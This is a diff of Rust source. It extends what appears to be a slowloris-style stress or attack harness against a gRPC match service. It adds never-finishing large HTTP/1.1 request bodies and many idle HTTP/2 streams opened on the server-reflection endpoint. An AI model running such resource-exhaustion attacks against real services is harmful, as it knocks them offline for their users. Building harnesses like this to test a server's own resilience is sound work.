@@ -16,6 +16,8 @@ use crate::target::{ATTACKER, Target};
 const BYTE_EVERY: Duration = Duration::from_millis(250);
 const UNARY: &str = "/bakufu.play.v1.MatchService/GetMatch";
 const STREAMING: &str = "/bakufu.play.v1.MatchService/WatchMatch";
+/// Both sides talk as they like, and nothing has to be asked first.
+const DIALOGUE: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
 
 /// By which protocol a body comes over HTTP/1.1.
 #[derive(Clone, Copy, Debug)]
@@ -44,27 +46,39 @@ impl Door {
 /// So many requests over HTTP/1.1, each on a connection of its own. They announce
 /// more than they send.
 pub(crate) fn bodies_without_end(target: Target, door: Door, count: usize) -> Attack {
+    unfinished_bodies(target, door, count, 0)
+}
+
+/// The same with bodies that are nearly whole, and so large as may be.
+pub(crate) fn large_bodies_without_end(target: Target, door: Door, count: usize) -> Attack {
+    const AT_ONCE_BYTES: usize = 200 * 1024;
+    unfinished_bodies(target, door, count, AT_ONCE_BYTES)
+}
+
+fn unfinished_bodies(target: Target, door: Door, count: usize, at_once: usize) -> Attack {
     Attack::by(count, move |_, tally| async move {
         let Some(connection) = connect(target, &tally).await else { return };
         let (reader, writer) = connection.into_split();
         let answers = tokio::spawn(note_answers(reader, Arc::clone(&tally)));
-        trickle(target, door, writer).await;
+        trickle(target, door, at_once, writer).await;
         // Who has been answered may still be read, as one that was cut off.
         let _ = answers.await;
         tally.note("closed");
     })
 }
 
-async fn trickle(target: Target, door: Door, mut writer: OwnedWriteHalf) {
-    const ANNOUNCED_BYTES: usize = 4096;
+async fn trickle(target: Target, door: Door, at_once: usize, mut writer: OwnedWriteHalf) {
+    const ANNOUNCED_MORE_BYTES: usize = 4096;
+    let announced = at_once + ANNOUNCED_MORE_BYTES;
     let head = format!(
         "POST {UNARY} HTTP/1.1\r\nhost: {}\r\ncontent-type: {}\r\ncontent-length: \
-         {ANNOUNCED_BYTES}\r\n\r\n",
+         {announced}\r\n\r\n",
         target.address,
         door.content_type(),
     );
     let mut bytes = interval(BYTE_EVERY);
-    let mut sent = writer.write_all(head.as_bytes()).await;
+    let begin = [head.as_bytes(), &vec![door.byte(); at_once]].concat();
+    let mut sent = writer.write_all(&begin).await;
     while sent.is_ok() {
         bytes.tick().await;
         sent = writer.write_all(&[door.byte()]).await;
@@ -90,6 +104,11 @@ pub(crate) fn messages_without_end(target: Target, connections: usize, streams: 
 /// ever saying what is to be streamed.
 pub(crate) fn streams_that_never_ask(target: Target, connections: usize, streams: usize) -> Attack {
     many_streams(target, STREAMING, connections, streams, Vec::new())
+}
+
+/// Over some connections of HTTP/2, so many dialogues each in which nobody speaks.
+pub(crate) fn silent_dialogues(target: Target, connections: usize, streams: usize) -> Attack {
+    many_streams(target, DIALOGUE, connections, streams, Vec::new())
 }
 
 /// Over some connections of HTTP/2, so many streams each of one match, for ever.
